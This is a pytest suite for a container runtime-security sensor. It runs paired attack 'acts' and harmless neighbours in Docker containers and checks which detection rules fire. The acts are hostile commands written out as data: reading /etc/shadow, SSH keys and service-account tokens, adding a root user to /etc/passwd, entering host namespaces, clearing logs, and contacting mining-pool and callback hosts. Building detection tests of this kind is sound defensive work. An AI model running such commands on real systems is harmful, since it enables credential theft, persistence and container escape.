"""The default rules (rules/*.yaml) on real acts in real containers.

For each rule that is on: an act that it must tell, and its nearest harmless neighbour, which no rule at all may tell above "Informational". All acts are done once, in a handful of containers,
while a sensor records; the recording is replayed through the rules, and each rule is one test. Neighbours run in containers of their own, so that a finding there has no other explanation.

The rules that are off are switched on at last, by a file that the central gives to the node, as a user does; their acts and neighbours are done then, in containers of their own.
"""
import json
import pathlib
import re
import subprocess
import tempfile
import time
import urllib.parse

import central_env
import docker_env
import pytest
import sensor_env
import yaml
from boxes import Box
from docker_env import wait_for
from evasions import LOADER, image_files


def first_disk():
    """A disk of this machine, or None."""
    for path in sorted(pathlib.Path("/sys/block").iterdir()):
        if not re.match(r"(loop|ram|zram|sr|fd)", path.name):
            return path.name
    return None


RULES = sensor_env.REPO / "rules"
IMAGE = "bh-test/rules:1"
BUILT = "made-by-buildkit"
# Options of the containers; of each kind there is one for attacks and one for neighbours.
KINDS = {
    "plain": [],
    "tmpfs": ["--tmpfs", "/tmp:exec"],
    # what --privileged gives, but for what root of the test machines may not give away itself
    "mighty": ["--cap-add=ALL", "--cap-drop=SYS_RESOURCE", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", "--security-opt", "systempaths=unconfined", "--pid=host",
               "-v", "/:/host:ro", *([f"--device=/dev/{first_disk()}"] if first_disk() else [])],
    "socket": [],  # with the engine's own socket
}

# Rule: (kind of container, the act, its neighbour or None where the rule is about the kind of container, where the finding shows up if not in that container)
# In the commands {pid} is a process of the node, a sleep that the test started.
ACTS = {
    "Process from a container runs a program on the node":
        ("mighty", "mount {cgroup} none /cg; sh -c 'echo $$ >/cg/cgroup.procs; exec /bin/busybox true'; umount /cg", "/bin/busybox true"),
    "Process outside of the container traced or written to": ("mighty", "dd if=/dev/zero of=/proc/{pid}/mem bs=1 count=1 conv=notrunc; true", "cat /proc/{pid}/comm"),
    "Kernel helper path written from a container": ("mighty", "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" >/proc/sys/kernel/core_pattern", "cat /proc/sys/kernel/core_pattern"),
    "Kernel protection switched off or machine triggered from a container":
        ("mighty", "v=$(cat /proc/sys/kernel/randomize_va_space); echo $v >/proc/sys/kernel/randomize_va_space", "cat /proc/sys/kernel/randomize_va_space"),
    "Device of the node opened in a container": ("mighty", "dd if=/dev/{disk} of=/dev/null bs=512 count=1", "dd if=/dev/zero of=/dev/null bs=512 count=1"),
    "Device node made in a container": ("plain", "mknod /tmp/node b 7 0", "mkfifo /tmp/fifo"),
    "Process hidden by a mount over proc": ("mighty", "sleep 3 & mount --bind /tmp /proc/$!; umount /proc/$!; true", "ls /proc/1"),
    "Disk or cgroup file system mounted in a container": ("mighty", "mount {cgroup} none /cg2; umount /cg2", "cat /proc/mounts"),
    "File system mounted in a container": ("mighty", "mount -t tmpfs none /mnt; umount /mnt", "df"),
    "Namespace entered from a container": ("mighty", "nsenter -t {pid} -u /bin/busybox true", "readlink /proc/1/ns/uts"),
    "Root of another process reached through proc": ("mighty", "cat /proc/{pid}/root/etc/hostname", "cat /proc/1/status"),
    "Root directory changed to a mount of the node": ("mighty", "chroot /host /bin/true", "ls /host"),
    "Container runtime's socket used from a container": ("socket", "/usr/bin/visit unix /run/docker.sock", "ls -l /run/docker.sock"),
    "Kernel module loaded or removed from a container": ("plain", "/acts --dir /tmp module_load.init_module", "cat /proc/modules"),
    "BPF program loaded from a container": ("mighty", "/acts --dir /tmp bpf.prog_load_junk", "/acts --dir /tmp bpf.map_create"),
    "Signal sent out of a container": ("mighty", "kill -TERM {victim}", "sleep 9 & kill -TERM $!"),
    "Program run from memory": ("plain", "/acts --dir /tmp exec.execveat_memfd", "/acts --dir /tmp memfd_create.memfd_create"),
    "Library of an attacker's choice preloaded": ("plain", "LD_PRELOAD=/tmp/x.so /bin/busybox true", "LD_PRELOAD=/usr/lib/x.so /bin/busybox true"),
    "Known privilege escalation by arguments or environment":
        ("plain", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/busybox true", "GLIBC_TUNABLES=glibc.malloc.mxfast=8 /bin/busybox true"),
    "Crypto miner started": ("plain", "/usr/bin/tool -o stratum+tcp://pool.invalid:3333; true", "echo stratum+tcp://pool.invalid:3333"),
    "Wiping tool run in a container": ("plain", "touch /tmp/w; /bin/shred /tmp/w", "touch /tmp/w; rm /tmp/w"),
    "Server program started a shell": ("plain", "/usr/sbin/nginx sh 'true; true'", "/usr/sbin/nginx sh '/usr/sbin/sendmail -t' 2>/dev/null; true"),
    "Tool started below a server program": ("plain", "/usr/sbin/nginx sh '/bin/id; true'", "/bin/sh -c '/bin/id; true'"),
    "Shell given more than can be seen": ("plain", "/bin/sh -c \"true; : $(head -c 40000 /dev/zero | tr '\\0' a)\"", "/bin/sh -c \"true; : $(head -c 4000 /dev/zero | tr '\\0' a)\""),
    "File mapped to be written and run": ("plain", "/acts --dir /tmp mmap.double_mapping", "/acts --dir /tmp mmap.file_exec"),
    "Deleted program run": ("plain", "/acts --dir /tmp exec.deleted", "/bin/busybox true"),
    "Program that is not part of the image run": ("plain", "cp /bin/busybox /opt/dropped; /opt/dropped true", "cp /bin/busybox /opt/dropped; /bin/busybox true"),
    "Program run from a directory that anyone can write to": ("tmpfs", "cp /bin/busybox /tmp/dropped; /tmp/dropped true", "echo true >/tmp/script; sh /tmp/script"),
    "Program run from a volume": ("plain", "cp /bin/busybox /ctl/dropped; /ctl/dropped true; rm /ctl/dropped", "cp /bin/busybox /ctl/dropped; rm /ctl/dropped"),
    "Program run by way of the dynamic loader": ("plain", f"{LOADER} --list /bin/busybox; true", f"{LOADER} --verify /bin/busybox; true"),
    "Code written into another process": ("plain", "/acts --dir /tmp process_vm.writev", "/acts --dir /tmp process_vm.readv"),
    "Process attached to another": ("plain", "/acts --dir /tmp ptrace.attach", "/acts --dir /tmp ptrace.traceme"),
    "Page faults handled by a program": ("mighty", "/acts --dir /tmp userfaultfd.userfaultfd", "/acts --dir /tmp mmap.anon_rw"),
    "Capabilities of the node gained": ("mighty", "/acts --dir /tmp setuid.back_to_root", "/acts --dir /tmp setuid.setuid"),
    "User namespace made in a container": ("mighty", "/acts --dir /tmp unshare.user", "/acts --dir /tmp unshare.uts"),
    "Set-user-id bit given to a file": ("plain", "touch /tmp/s; chmod 4755 /tmp/s", "touch /tmp/s; chmod 755 /tmp/s"),
    "Capabilities given to a file": ("mighty", "/acts --dir /tmp setxattr.setxattr", "/acts --dir /tmp setxattr.user"),
    "Container client run in a container": ("plain", "/usr/bin/kubectl get pods; true", "/usr/bin/tool get pods; true"),
    "Package manager run in a running container": ("plain", "/usr/bin/apt-get install x; true", "/usr/bin/tool install x; true"),
    "User or group changed in a running container": ("plain", "/bin/passwd --help 2>/dev/null; true", "/bin/id nobody; true"),
    "Network tool run in a container": ("plain", "/bin/nc -w 1 127.0.0.1 9; true", "/usr/bin/visit tcp 9"),
    "Preloaded libraries of all programs changed": ("plain", "echo /tmp/x.so >/etc/ld.so.preload; rm /etc/ld.so.preload", "cat /etc/ld.so.preload; true"),
    "SSH keys that may log in changed": ("plain", "echo key >>/root/.ssh/authorized_keys", "echo host >>/root/.ssh/known_hosts"),
    "Accounts or rights of users changed": ("plain", "echo eve:x:0:0::/:/bin/sh >>/etc/passwd", "cat /etc/passwd"),
    "Service of the system written": ("plain", "echo x >/etc/systemd/system/x.service", "echo x >/etc/app/x.service"),
    "Scheduled job written": ("plain", "echo x >/etc/cron.d/x", "echo x >/etc/app/cron.conf"),
    "Start file of shells written": ("plain", "echo x >>/root/.profile", "echo x >>/root/profile.txt"),
    "System program or library replaced": ("plain", "echo x >/bin/new-program", "echo x >/var/lib/app/data"),
    "Script for the web server written by the web server": ("plain", "/usr/sbin/nginx write /www/s.php", "/usr/sbin/nginx write /www/s.png"),
    "Password hashes read": ("plain", "cat /etc/shadow", "cat /etc/group"),
    "Link to a sensitive file made": ("plain", "ln /etc/shadow /tmp/hl; ln -s /etc/shadow /tmp/sl", "ln -s /etc/group /tmp/sl"),
    "Service account's token read by a tool": ("plain", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
    "Keys or credentials of others read by a tool": ("plain", "cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"),
    "Environment or memory of another process read by a tool": ("plain", "cat /proc/1/environ", "cat /proc/self/environ; cat /proc/1/stat"),
    "Files searched for secrets": ("plain", "/bin/grep -r 'BEGIN RSA PRIVATE KEY' /www; true", "/bin/grep -r hello /www"),
    "Network traffic listened to": ("plain", "/acts --dir /tmp socket.packet_raw", "/acts --dir /tmp socket.inet_dgram"),
    "Standard input or output put on a network connection":
        ("plain", "/usr/bin/visit listen 4711 & sleep 1; /usr/bin/visit shell 4711; wait", "/usr/bin/visit listen 4712 & sleep 1; /usr/bin/visit tcp 4712; wait"),
    "Shell opened a network connection": ("plain", "/usr/bin/bash tcp 9", "/usr/bin/visit tcp 9"),
    "Cloud metadata service contacted": ("plain", "/usr/bin/visit far 169.254.169.254; true", "/usr/bin/visit far 169.254.169.250; true"),
    "Node's control plane contacted from a container": ("plain", "/usr/bin/visit tcp 10250", "/usr/bin/visit tcp 10350"),
    "Program that is not part of the image opened a connection": ("plain", "cp /usr/bin/visit /opt/visit; /opt/visit tcp 9", "/usr/bin/visit tcp 9"),
    "SSH connection from a container": ("plain", "/usr/bin/visit tcp 22", "/usr/bin/visit tcp 2022"),
    "Name of a mining pool asked for": ("plain", "/usr/bin/visit dns xmr.supportxmr.com", "/usr/bin/visit dns www.example.com"),
    "Name of a tunnel or callback service asked for": ("plain", "/usr/bin/visit dns abc.oast.fun", "/usr/bin/visit dns oast.fun.example.com"),
    "Data in the names of DNS questions":
        ("plain", f"/usr/bin/visit dns {'a1b2c3d4' * 7}.{'e5f6a7b8' * 7}.{'c9d0e1f2' * 7}.example.com", f"/usr/bin/visit dns {'a1b2c3d4' * 4}.cdn.example.com"),
    "Records of logins changed or removed": ("plain", ": >/var/log/wtmp", "cat /var/log/wtmp"),
    "Log removed or emptied": ("plain", "rm /var/log/app.log", "echo line >>/var/log/app.log"),
    "Shell history removed": ("plain", "rm /root/.ash_history", "rm /root/history"),
    "More acts than the node describes": ("plain", "/acts flood sockets --seconds 2 --threads 2 >/dev/null", "/acts --dir /tmp open.open"),
    "Privileged container started": ("plain", "privileged", None),
    "Operator's command in a running container": ("plain", "exec", None),
    "Shell with a terminal in a container": ("plain", "exec -t", None),
}
# The same for the rules that are off: (kind, acts, neighbours, kernel's reason why the backend cannot tell or None). Each act must be told by itself; no rule at all may tell of a neighbour.
OFF = {
    "Memory made executable after it was written":
        ("plain", [f"/acts --dir /tmp mprotect.{form}" for form in ("anon_written", "anon_rwx", "heap", "stack")], ["/acts --dir /tmp mprotect.anon_never_written", "/acts --dir /tmp mmap.anon_rw"], None),
    "Memory file mapped to be written and run":
        ("plain", ["/acts --dir /tmp mmap.memfd_double_mapping", "/acts --dir /tmp mprotect.file_cow"],
         ["/acts --dir /tmp mmap.file_exec", "/acts --dir /tmp mprotect.file_never_written", "/acts --dir /tmp memfd_create.memfd_create"], None),
    "Arguments or environment longer than is kept":
        ("plain", ["/bin/busybox true $(head -c 40000 /dev/zero | tr '\\0' a)", "V=$(head -c 13000 /dev/zero | tr '\\0' a) /bin/busybox true"],
         ["/bin/busybox true $(head -c 30000 /dev/zero | tr '\\0' a)", "V=$(head -c 11000 /dev/zero | tr '\\0' a) /bin/busybox true"], None),
    "etcd contacted from a container": ("plain", ["/usr/bin/visit tcp 2379", "/usr/bin/visit tcp 2380"], ["/usr/bin/visit tcp 2381"], None),
    "Connection to a port that mining pools use":
        ("plain", ["/usr/bin/visit far 203.0.113.9:3333", "/usr/bin/visit far 203.0.113.9:14444"], ["/usr/bin/visit far 203.0.113.9:3334", "/usr/bin/visit far 10.99.99.99:3333", "/usr/bin/visit tcp 3333"], None),
    "Somebody looks around": ("plain", ["/bin/id", "/bin/busybox uname -a", "/bin/ps"], ["/bin/busybox echo id", "/bin/busybox echo uname -a", "cat /proc/self/status"], None),
    "Asynchronous system calls set up": ("mighty", ["/acts --dir /tmp io_uring_setup.io_uring_setup", "/acts --dir /tmp io_uring.openat"], ["/acts --dir /tmp open.openat"], None),
    "Named pipe made in a container": ("plain", ["mkfifo /tmp/pipe", "/acts --dir /tmp mknod.fifo"], ["/acts --dir /tmp mknod.mknodat", "touch /tmp/file"], None),
}
SWITCHED_ON = "on.yaml"  # the central's file that switches them on
# Normal work that must stay quiet, in a container of its own; the operator's command, image build, health check and rolling update are in normal().
NORMAL = {
    "log rotation by the application": "/usr/sbin/nginx write /var/log/access.log; mv /var/log/app.log /var/log/app.log.1; gzip /var/log/app.log.1; /usr/sbin/nginx write /var/log/app.log",
    "a cron job": "mkdir -p /var/spool/cron/crontabs; (sleep 1; kill $!) & timeout 2 crond -f -c /var/spool/cron/crontabs; true",
    "backup": "tar -czf /tmp/backup.tgz /etc/passwd /www; cp /tmp/backup.tgz /var/lib/app/; rm /tmp/backup.tgz",
    "certificate renewal": "mkdir -p /etc/ssl/private; umask 077; echo key >/etc/ssl/private/new.key; mv /etc/ssl/private/new.key /etc/ssl/private/site.key; sleep 5 & kill -HUP $!",
    "just-in-time compilation": "/acts --dir /tmp mprotect.anon_written; /acts --dir /tmp mmap.anon_wx; /acts --dir /tmp mmap.memfd_double_mapping",
    "an agent that reads /proc and connects everywhere":
        "for p in /proc/[0-9]*; do cat $p/stat $p/status $p/cmdline; done >/dev/null 2>&1; for port in 80 443 5432 6379 9090; do /usr/bin/visit tcp $port; done; cat /proc/net/tcp /proc/meminfo",
    "an entry point that prepares": "id; hostname; mkdir -p /var/lib/app/data; chown -R nobody /var/lib/app/data; chmod 700 /var/lib/app/data; ln -sf /dev/stdout /www/link; sed -i s/hello/hi/ /www/index.html",
    "names that are asked for": "/usr/bin/visit dns api.internal.example.com; /usr/bin/visit dns registry.example.org",
}



def default_rules():
    """Every rule of rules/*.yaml, in the order in which they are loaded."""
    out = []
    for path in sorted(RULES.glob("*.yaml")):
        out += [item for item in yaml.safe_load(path.read_text()) if "rule" in item]
    return out


def make_image(docker, build):
    """The base image, files that rules are about, and programs under the names of others: what a rule takes for a web server or a shell must be part of the image."""
    with tempfile.NamedTemporaryFile("w") as some:
        some.write("some text\n")
        some.flush()
        docker.docker("import", "--change", "ENV PATH=/bin", "-", IMAGE, input=docker_env.make_base_image_tar(image_files(build, some.name)), text=False)


def cgroup_mount(sensor):
    cgroup = sensor.status()["cgroup"]
    return f"-t cgroup -o {cgroup['controller']}" if cgroup.get("controller") else "-t cgroup2"


class Played:
    """All acts, done once: .findings are what the rules say of the recording."""

    def __init__(self, docker, build, backend):
        self.failed = {}
        victims = [subprocess.Popen(["sleep", "300"]) for _ in range(2)]
        boxes = {}
        try:
            with central_env.Central() as central, central_env.connected_sensor(build, docker, central, backend, "--budget", "1000") as sensor:
                words = {"pid": victims[0].pid, "victim": victims[1].pid, "disk": first_disk() or "none", "cgroup": cgroup_mount(sensor)}
                for kind, options in KINDS.items():
                    options = options + (["-v", f"{docker.dir}/docker.sock:/run/docker.sock"] if kind == "socket" else [])
                    for side in ("act", "neighbour"):
                        boxes[kind, side] = Box(docker, f"{kind}-{side}", *options, image=IMAGE)
                for rule, (kind, act, neighbour) in ACTS.items():
                    for side, command in (("act", act), ("neighbour", neighbour)):
                        if command in ("exec", "exec -t"):
                            self.operator(docker, boxes[kind, side], command)
                        elif command == "privileged":
                            self.privileged(docker)
                        elif command:
                            self.play(rule, side, boxes[kind, side], command.format(**words))
                boxes["normal", "neighbour"] = Box(docker, "normal-neighbour", image=IMAGE)
                for work, command in NORMAL.items():
                    self.play(work, "neighbour", boxes["normal", "neighbour"], command)
                self.normal(docker)
                time.sleep(1.2)  # repeats are told when their window is swept
                root = central.root()
                self.rules, self.live = sensor.status()["rules"], self.told(root, on())
                self.switch_on(root)
                for kind in sorted({kind for kind, *_ in OFF.values()}):
                    for side in ("act", "neighbour"):
                        boxes[f"{kind}-off", side] = Box(docker, f"{kind}-off-{side}", *KINDS[kind], image=IMAGE)
                self.marks = {}
                for rule, (kind, acts, neighbours, _) in OFF.items():
                    for side, commands in (("act", acts), ("neighbour", neighbours)):
                        for command in commands:
                            begin = time.time_ns()
                            self.play(rule, side, boxes[f"{kind}-off", side], command)
                            self.marks[command, side] = (begin, time.time_ns())
                time.sleep(1.2)
                self.off_live = self.told(root, off())
                self.built = sensor.events(filter="bh.runtime = buildkit and evt.type = execve")
                sensor.stop()
                self.findings = self.replay(sensor)
                with tempfile.NamedTemporaryFile("w", suffix=".yaml") as switch:
                    switch.write(switched_on())
                    switch.flush()
                    self.off_findings = self.replay(sensor, switch.name)
        finally:
            for box in boxes.values():
                box.close()
            for victim in victims:
                victim.kill()
                victim.wait()

    def play(self, rule, side, box, command):
        try:
            box.run(command, deadline=20, ok=None)
        except AssertionError as e:
            self.failed[rule, side] = str(e)

    @staticmethod
    def operator(docker, box, command):
        argv = ["docker", "--host", docker.host, *command.split(), box.name, "/bin/sh", "-c", "true; true"]
        if command == "exec -t":  # a terminal needs one on this side as well
            argv = ["script", "-qec", " ".join(argv[:-1] + ["'true; true'"]), "/dev/null"]
        subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=docker_env.system_env(), timeout=30, check=False)

    def privileged(self, docker):
        r = docker.docker("run", "--rm", "--privileged", "--runtime", docker_env.PRIVILEGED_RUNTIME, "--name", "privileged-act", IMAGE, "true", check=False)
        docker.docker("rm", "-f", "privileged-act", check=False)
        if r.returncode:
            self.failed["Privileged container started", "act"] = r.stderr.strip()

    def normal(self, docker):
        """What the runtime does for operators and developers."""
        with tempfile.TemporaryDirectory() as context:
            pathlib.Path(context, "Dockerfile").write_text(
                f"FROM {IMAGE}\nRUN /usr/bin/apt-get sh 'cp /bin/busybox /usr/bin/installed; /usr/bin/installed true; chmod 4755 /usr/bin/installed; echo svc:x:9:9::/:/bin/false >>/etc/passwd'\n"
                "RUN mkdir -p /srv/app && echo code >/srv/app/main && chmod 755 /srv/app/main\n")
            self.build(docker, context, "0")
            pathlib.Path(context, "Dockerfile").write_text(
                f"FROM {IMAGE}\nRUN cp /usr/bin/visit /opt/{BUILT} && /opt/{BUILT} tcp 9 && chmod 4755 /opt/{BUILT} && cp /usr/bin/visit /tmp/{BUILT} && /tmp/{BUILT} tcp 9 && echo {BUILT}:x:9:9::/:/bin/false >>/etc/passwd\n")
            self.build(docker, context, "1")
        for n in range(2):
            docker.run("-d", "--name", f"rolling-{n}", "--health-cmd", "/usr/bin/visit tcp 80", "--health-interval", "1s", IMAGE, "sh", "-c", "sleep 2")
        for n in range(2):
            docker.docker("rm", "-f", f"rolling-{n}", check=False)

    def build(self, docker, context, kit):
        env = dict(docker_env.system_env(), DOCKER_BUILDKIT=kit)
        r = subprocess.run(["docker", "--host", docker.host, "build", "--network", "none", "-t", f"bh-test/built:{kit}", context], capture_output=True, text=True, env=env, timeout=60, check=False)
        if r.returncode:
            self.failed[f"image build {kit}", "neighbour"] = r.stdout[-500:] + r.stderr[-500:]

    @staticmethod
    def switch_on(root):
        """Gives the node a file that switches on what is off, and waits until it uses it."""
        answer = root.put(f"/api/v1/rules/files/{SWITCHED_ON}", {"text": switched_on()})
        assert answer.status == 200, answer

        def enabled():
            rules = {r["name"]: r["enabled"] for r in root.get("/api/v1/rules").json["rules"]}
            return all(rules[rule] for rule in off()), [rule for rule in off() if not rules[rule]]
        wait_for(enabled, 20, "the node has switched on the rules that are off")

    @staticmethod
    def told(root, rules):
        """What the sensor told the central meanwhile, by the same rules."""
        out = set()
        for rule in rules:
            answer = root.get("/api/v1/findings?" + urllib.parse.urlencode({"limit": 500, "kind": "rule", "rule": rule}))
            assert answer.status == 200, answer
            out |= {(f["rule"], f["container_name"]) for f in answer.json["findings"]}
        return out

    @staticmethod
    def replay(sensor, *more):
        rules = [arg for path in [*sorted(RULES.glob("*.yaml")), *more] for arg in ("--rules", path)]
        out = sensor.cli("replay", sensor.data_dir / "recorder", *rules, "--json").stdout
        return [json.loads(line) for line in out.split("\n") if line]


@pytest.fixture(scope="module")
def played(request, docker, build):
    make_image(docker, build)
    return Played(docker, build, request.config.getoption("--backend"))


def text(findings):
    return "\n".join(f"{f['rule']}: {f.get('output', '')[:300]}" for f in findings) or "none"


def of(findings, name, rule=None):
    """Findings of the container of that name, also of processes that have left it."""
    out = []
    for f in findings:
        fields = f.get("output_fields", {})
        if name in (fields.get("container.name"), fields.get("bh.origin.name")) and rule in (None, f["rule"]):
            out.append(f)
    return out


def on():
    return [r["rule"] for r in default_rules() if r.get("enabled", True)]


def off():
    return [r["rule"] for r in default_rules() if not r.get("enabled", True)]


def switched_on():
    """A user's file, as rules/90-noisy.yaml says that one does it."""
    return yaml.safe_dump([{"rule": rule, "enabled": True, "override": {"enabled": "replace"}} for rule in off()])


@pytest.mark.deadline(240)
@pytest.mark.parametrize("rule", sorted(ACTS))
def test_rule_tells_the_act(played, rule):
    kind, act, _ = ACTS[rule]
    assert (rule, "act") not in played.failed, f"expected the act to be done, saw {played.failed[rule, 'act']}"
    name = "privileged-act" if act == "privileged" else f"{kind}-act"
    if rule == "Device of the node opened in a container" and not first_disk():
        pytest.skip("this machine has no disk")
    assert of(played.findings, name, rule), f"expected a finding of {rule!r} in {name}, saw there:\n{text(of(played.findings, name))}"


@pytest.mark.deadline(240)
@pytest.mark.parametrize("kind", sorted(KINDS))
def test_harmless_neighbours_are_quiet(played, kind):
    failed = [k for k in played.failed if k[1] == "neighbour"]
    assert not failed, f"expected each neighbour to be done, saw {[(k, played.failed[k]) for k in failed]}"
    loud = [f for f in of(played.findings, f"{kind}-neighbour") if f["priority"] not in ("Informational", "Debug")]
    assert not loud, f"expected no finding above Informational in {kind}-neighbour, saw\n{text(loud)}"


@pytest.mark.deadline(240)
def test_the_live_sensor_tells_what_the_recording_shows(played):
    """The sensor itself evaluated the default rules, without any option, while it recorded; before those that are off were switched on."""
    names = {f"{kind}-{side}" for kind in KINDS for side in ("act", "neighbour")}
    replayed = {(f["rule"], f["output_fields"].get("container.name")) for f in played.findings}
    replayed, live = ({found for found in some if found[1] in names} for some in (replayed, played.live))
    assert live == replayed, f"expected live what the replay tells; only live {sorted(live - replayed)}, only replayed {sorted(replayed - live)}; {played.rules}"


@pytest.mark.deadline(240)
@pytest.mark.parametrize("rule", sorted(OFF))
def test_rule_that_is_off_tells_each_act_when_switched_on(played, rule, request):
    kind, acts, _, reason = OFF[rule]
    assert (rule, "act") not in played.failed, f"expected the act to be done, saw {played.failed[rule, 'act']}"
    name, silent = f"{kind}-off-act", []
    for act in acts:
        first, last = played.marks[act, "act"]
        if not any(first <= f["output_fields"]["evt.time"] <= last for f in of(played.off_findings, name, rule)):
            silent.append(act)
    if reason:
        request.applymarker(pytest.mark.xfail(strict=True, reason=reason))
    assert not silent, f"expected a finding of {rule!r} in {name} for each act, saw none for {silent}; there:\n{text(of(played.off_findings, name))}"
    assert not of(played.findings, name, rule), "expected a rule that is off to tell nothing"


@pytest.mark.deadline(240)
def test_harmless_neighbours_of_rules_that_are_off_are_quiet(played):
    failed = [k for k in played.failed if k[0] in OFF and k[1] == "neighbour"]
    assert not failed, f"expected each neighbour to be done, saw {[(k, played.failed[k]) for k in failed]}"
    for kind in {kind for kind, *_ in OFF.values()}:
        loud = of(played.off_findings, f"{kind}-off-neighbour")
        assert not loud, f"expected no finding in {kind}-off-neighbour, saw\n{text(loud)}"


@pytest.mark.deadline(240)
def test_a_node_that_runs_tells_by_rules_switched_on_what_the_recording_shows(played):
    """From the moment on at which they were switched on: in containers that were started after it."""
    names = {f"{kind}-off-{side}" for kind, *_ in OFF.values() for side in ("act", "neighbour")}
    live = {found for found in played.off_live if found[1] in names}
    replayed = {(f["rule"], f["output_fields"].get("container.name")) for f in played.off_findings if f["rule"] in OFF}
    assert live == {found for found in replayed if found[1] in names} and live, f"expected {sorted(replayed)}, saw {sorted(live)}"


def test_every_rule_that_is_off_has_acts_and_neighbours():
    assert sorted(OFF) == sorted(off())
    assert all(acts and neighbours for _, acts, neighbours, _ in OFF.values())
    commands = [c for _, acts, neighbours, _ in OFF.values() for c in [*acts, *neighbours]]
    assert len(commands) == len(set(commands)), "a command that is there twice has one mark only"


def test_normal_work_is_quiet(played):
    """Builds, rolling updates and all containers that are not there to attack: their names are known to nobody but our own engine's."""
    attackers = {f"{kind}-{side}" for kind in KINDS for side in ("act", "off-act")} | {"privileged-act", None}
    loud = [f for f in played.findings if f["output_fields"].get("container.name") not in attackers and f["priority"] not in ("Informational", "Debug")]
    assert not loud, f"expected no finding above Informational, saw\n{text(loud)}"


def test_steps_of_buildkit_are_quiet(played):
    """Their containers have no name: known by what they ran."""
    ran = [e for e in played.built if e["type"] == "exec" and e.get("proc.exe", "").endswith(BUILT)]
    assert len(ran) >= 2, f"expected the programs of the step to be recorded, saw {played.built}"
    loud = [f for f in played.findings if BUILT in f["output"] and f["priority"] not in ("Informational", "Debug")]
    assert not loud, f"expected no finding above Informational, saw\n{text(loud)}"


def test_every_rule_that_is_on_has_an_act_and_a_neighbour():
    """The neighbours of the rules about operators and privileged containers are all the other containers."""
    assert sorted(ACTS) == sorted(on())
    without = [rule for rule, (_, _, neighbour) in ACTS.items() if not neighbour]
    assert without == ["Privileged container started", "Operator's command in a running container", "Shell with a terminal in a container"]


def test_every_rule_says_what_it_means_and_what_to_do():
    for rule in default_rules():
        name = rule["rule"]
        assert re.search(r"What to do: \S.{20}", rule["desc"], re.S), f"{name}: expected its desc to end with what to do, saw {rule['desc']!r}"
        assert len(rule["desc"].split("What to do:")[0]) > 50, f"{name}: expected its desc to say what the act means"
        assert re.search(r"%(container|bh\.origin)\.name", rule["output"]), f"{name}: expected its output to name the container"
        assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", tag) for tag in rule["tags"]), f"{name}: expected an ATT&CK technique among its tags, saw {rule['tags']}"
        assert rule.get("enabled", True) or re.search(r"\b[Oo]ff\b", rule["desc"]), f"{name}: expected a rule that is off to say why"


def test_coverage_table_names_the_rules_of_each_technique():
    """docs/attack-coverage.md against the rules and their tags: their number, those that are off, and each rule at each of its techniques and scenarios and at no other."""
    document = (sensor_env.REPO / "docs" / "attack-coverage.md").read_text()
    rules = default_rules()
    assert f"\n{len(rules)} rules, of which {len(off())} are off" in document, f"expected {len(rules)} rules of which {len(off())} are off"
    assert sorted(re.findall(r"^\* (.+)$", document.split("## Off")[1], re.M)) == sorted(off())
    scenarios = {m[1]: {r.strip() for r in m[2].split(";")} for m in re.finditer(r"^\| (A\d+) [^|]*\|([^|]*)\|", document, re.M)}
    by_tag = {}
    for rule in rules:
        for tag in rule["tags"]:
            if re.fullmatch(r"A\d+", tag):
                by_tag.setdefault(tag, set()).add(rule["rule"])
    assert scenarios == by_tag, {t: (scenarios.get(t, set()) ^ by_tag.get(t, set())) for t in {*scenarios, *by_tag}}
    table = {}
    for line in document.splitlines():
        m = re.match(r"\| [^|]*\b(T\d{4}(?:\.\d{3})?)\b[^|]*\|([^|]*)\|", line)
        if m:
            table[m[1]] = {r.strip() for r in m[2].split(";") if r.strip() and not r.strip().startswith("(")}
    tags = {}
    for rule in default_rules():
        for tag in rule["tags"]:
            if re.fullmatch(r"T\d{4}(\.\d{3})?", tag):
                tags.setdefault(tag, set()).add(rule["rule"])
    assert {t: r for t, r in table.items() if r} == tags, f"expected {tags}"
